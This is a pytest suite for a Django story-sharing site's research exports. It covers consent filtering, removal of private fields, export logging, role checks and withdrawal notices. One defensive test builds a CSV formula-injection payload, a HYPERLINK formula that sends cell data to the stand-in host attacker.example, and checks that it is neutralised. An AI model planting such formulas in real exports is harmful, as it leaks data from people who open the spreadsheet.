"""Research exports: only research-consented stories, no private field, every export recorded, and withdrawal
notices to everyone who exported a story."""

import csv
import datetime
import io
import json

import pytest
from django.core import mail
from django.utils import timezone

from moderation import roles
from moderation.erasure import erase_story
from moderation.models import ConsentRecord, Contribution
from research.exports import FIELDS, create_export
from research.models import ResearchExport, ResearchExportItem
from stories.models import Theme
from tests.factories import ConsentRecordFactory
from tests.moderators import make_user, sign_in
from tests.public_site import build_site
from tests.research_site import PRIVATE_EMAIL, PRIVATE_NAME, consented_story

pytestmark = pytest.mark.django_db

TRANSCRIPT = [
    {"start": 0.0, "end": 2.5, "text": " The voices were loud that winter. ", "words": []},
    {"start": 2.5, "end": 5.25, "text": "The group helped me answer back.", "words": []},
]


@pytest.fixture
def stories():
    index = build_site()
    yesterday = timezone.localdate() - datetime.timedelta(days=1)
    made = {
        "both": consented_story(index, "Medication made me numb.\n\nA review helped.", title="Public title 1"),
        "researchers_only": consented_story(
            index,
            "I heard voices for years.",
            audience=ConsentRecord.Audience.RESEARCHERS,
            transcript=TRANSCRIPT,
            language="es",
        ),
        "public_no_research": consented_story(
            index, "The crisis team came late.", audience=ConsentRecord.Audience.PUBLIC, research_use=False
        ),
        "public_with_research": consented_story(
            index, "My peer group kept me going.", audience=ConsentRecord.Audience.PUBLIC, research_use=True
        ),
        "not_yet_published": consented_story(index, "Still in moderation.", published=False),
        "expired": consented_story(index, "My consent ran out.", expires_on=yesterday),
        "research_withdrawn": consented_story(index, "I changed my mind about research."),
    }
    # A later consent record replaces the earlier one: this contributor now says no to research.
    ConsentRecordFactory(
        contribution=made["research_withdrawn"][1], audience=ConsentRecord.Audience.PUBLIC, research_use=False
    )
    return made


@pytest.fixture
def researcher():
    return make_user("rita", roles.RESEARCHERS)


def _ids(stories, *names):
    return {stories[name][0].pk for name in names}


def test_export_contains_only_research_consented_stories(stories, researcher):
    export, content = create_export(researcher, ResearchExport.Format.JSON)

    exported = {row["story_id"] for row in json.loads(content)["stories"]}
    assert exported == _ids(stories, "both", "researchers_only", "public_with_research")
    assert export.story_count == 3


def test_export_has_the_story_and_its_context_but_no_private_field(stories, researcher):
    _, json_content = create_export(researcher, ResearchExport.Format.JSON)
    _, csv_content = create_export(researcher, ResearchExport.Format.CSV)

    rows = {row["story_id"]: row for row in json.loads(json_content)["stories"]}
    assert all(tuple(row) == FIELDS for row in rows.values())
    spoken = rows[stories["researchers_only"][0].pk]
    assert spoken["transcript"] == [
        {"start": 0.0, "end": 2.5, "text": "The voices were loud that winter."},
        {"start": 2.5, "end": 5.25, "text": "The group helped me answer back."},
    ]
    assert spoken["language"] == "es" and spoken["consent_audience"] == "researchers"
    assert spoken["consent_given_on"] == timezone.localdate().isoformat()
    assert rows[stories["both"][0].pk]["text"] == "Medication made me numb.\n\nA review helped."
    assert "[0.00–2.50] The voices were loud that winter." in csv_content
    for content in (json_content, csv_content):
        assert PRIVATE_EMAIL not in content
        assert PRIVATE_NAME not in content
        assert "Public title 1" not in content
        for _, contribution in stories.values():
            assert contribution.key not in content and contribution.key_hash not in content


def test_researchers_explore_and_export_in_the_admin_and_each_export_is_recorded(stories, researcher):
    client = sign_in(researcher)

    page = client.get("/admin/research/stories/")
    assert page.status_code == 200
    listed = page.content.decode()
    assert "I heard voices for years." in listed
    assert "The crisis team came late." not in listed and "Still in moderation." not in listed

    first = client.post("/admin/research/stories/export/", {"format": "csv"})
    second = client.post("/admin/research/stories/export/", {"format": "json", "language": "es"})

    assert first.status_code == 200 and first["Content-Type"].startswith("text/csv")
    assert first["Content-Disposition"].startswith("attachment;")
    assert second.status_code == 200 and json.loads(second.content)["stories"][0]["language"] == "es"
    exports = list(ResearchExport.objects.order_by("pk"))
    assert [(e.exported_by, e.format, e.story_count) for e in exports] == [
        (researcher, "csv", 3),
        (researcher, "json", 1),
    ]
    assert set(exports[0].items.values_list("story_ref", flat=True)) == _ids(
        stories, "both", "researchers_only", "public_with_research"
    )
    assert list(exports[1].items.values_list("story_ref", flat=True)) == [stories["researchers_only"][0].pk]


def test_only_researchers_can_explore_or_export(stories):
    peer = make_user("pat", roles.PEER_MODERATORS)
    client = sign_in(peer)

    # The admin answers a refused page by sending the person back to the dashboard with a message.
    for response in (
        client.get("/admin/research/stories/"),
        client.post("/admin/research/stories/export/", {"format": "csv"}),
    ):
        assert response.status_code == 302 and response["Location"] == "/admin/"
    assert not ResearchExport.objects.exists()


def test_withdrawing_an_exported_story_notifies_its_exporters(stories, researcher, django_capture_on_commit_callbacks):
    other_researcher = make_user("omar", roles.RESEARCHERS)
    never_exported = make_user("nell", roles.RESEARCHERS)
    create_export(researcher, ResearchExport.Format.CSV)
    create_export(researcher, ResearchExport.Format.JSON)
    create_export(other_researcher, ResearchExport.Format.JSON)
    page, contribution = stories["both"]
    story_id = page.pk

    with django_capture_on_commit_callbacks(execute=True):
        erase_story(contribution)

    assert sorted(message.to[0] for message in mail.outbox) == sorted([researcher.email, other_researcher.email])
    assert never_exported.email not in [message.to[0] for message in mail.outbox]
    for message in mail.outbox:
        assert f"story {story_id}" in message.subject and "delete" in message.body
        assert "Medication made me numb" not in message.body
    assert not ResearchExportItem.objects.filter(story_ref=story_id, withdrawal_notified_at__isnull=True).exists()

    _, later = create_export(researcher, ResearchExport.Format.JSON)
    assert story_id not in {row["story_id"] for row in json.loads(later)["stories"]}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(start, researcher):
    """A cell starting with = + - @ (or a tab or carriage return before one) is a formula to a spreadsheet: it is
    written with a leading apostrophe, so it opens as the words the contributor wrote."""
    index = build_site()
    formula = f'{start}HYPERLINK("http://attacker.example/?"&A1,"Read more")'
    story, _ = consented_story(index, formula)
    theme = Theme.objects.create(name=f"{start}1+1")
    story.themes.add(theme)
    story.save()  # a page's many-to-many relations are written when it is saved

    _, content = create_export(researcher, ResearchExport.Format.CSV)
    (row,) = csv.DictReader(io.StringIO(content, newline=""))
    assert row["text"] == "'" + formula
    assert row["curated_themes"] == f"'{start}1+1"
    assert row["story_id"] == str(story.pk)  # numbers and dates are left as they are
    _, json_content = create_export(researcher, ResearchExport.Format.JSON)
    assert json.loads(json_content)["stories"][0]["text"] == formula  # JSON is data, never run: kept exact


def test_export_carries_how_each_story_reached_us(stories, researcher):
    Contribution.objects.filter(pk=stories["researchers_only"][1].pk).update(channel=Contribution.Channel.RECORDED)
    Contribution.objects.filter(pk=stories["public_with_research"][1].pk).update(channel=Contribution.Channel.ASSISTED)
    _, json_content = create_export(researcher, ResearchExport.Format.JSON)
    _, csv_content = create_export(researcher, ResearchExport.Format.CSV)

    expected = {
        str(stories["both"][0].pk): "web",
        str(stories["researchers_only"][0].pk): "recorded",
        str(stories["public_with_research"][0].pk): "assisted",
    }
    assert {str(row["story_id"]): row["channel"] for row in json.loads(json_content)["stories"]} == expected
    assert {row["story_id"]: row["channel"] for row in csv.DictReader(io.StringIO(csv_content))} == expected
